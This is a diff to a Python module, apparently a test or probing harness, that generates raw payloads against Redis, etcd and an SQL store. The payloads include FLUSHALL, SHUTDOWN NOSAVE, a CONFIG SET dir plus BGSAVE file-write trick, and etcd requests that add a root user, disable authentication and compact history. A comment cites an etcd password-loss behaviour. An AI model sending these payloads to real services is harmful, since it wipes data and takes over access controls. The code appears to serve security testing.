@@ -24,7 +24,7 @@ def payloads(secret="", token=""):
     if not secret:
         yield b"GET seats\r\nSET seats 1\r\n"
         yield b"REPLICAOF NO ONE\r\nFLUSHALL\r\nSHUTDOWN NOSAVE\r\n"
-    for path in ("kv/range", "kv/put", "maintenance/snapshot", "auth/user/add", "auth/disable"):
+    for path in _ETCD:
         if not secret or path == "kv/range":
             yield _http(path, token)
     for statement in ("SELECT value FROM pairs", "UPDATE pairs SET value = '1'"):
@@ -38,11 +38,22 @@ def runs(marker):
     yield f"EVAL \"return redis.call('CONFIG', 'SET', 'dir', '{marker}')\" 0\r\nBGSAVE\r\n".encode()
 
 
+_KEY = "c2VhdHM="  # seats
+# Not the alarm that etcd lets anybody set off: under it 3.4.23 forgets its passwords, as the
+# docstring of `Etcd` says.
+_ETCD = {
+    "kv/range": {"key": _KEY, "serializable": True},
+    "kv/put": {"key": _KEY, "value": "MQ=="},
+    "kv/compaction": {"revision": "2", "physical": True},
+    "maintenance/snapshot": {},
+    "maintenance/status": {},
+    "auth/user/add": {"name": "root", "password": "x"},
+    "auth/disable": {},
+}
+
+
 def _http(path, token):
-    key = "c2VhdHM="  # seats
-    body = {"key": key} | ({"value": "MQ=="} if path == "kv/put" else {"serializable": True})
-    body = body if path.startswith("kv") else {"name": "root", "password": "x"}
-    text = json.dumps(body)
+    text = json.dumps(_ETCD[path])
     proof = f"Authorization: {token}\r\n" if token else ""
     head = f"POST /v3/{path} HTTP/1.0\r\nContent-Length: {len(text)}\r\n{proof}"
     return f"{head}\r\n{text}".encode()
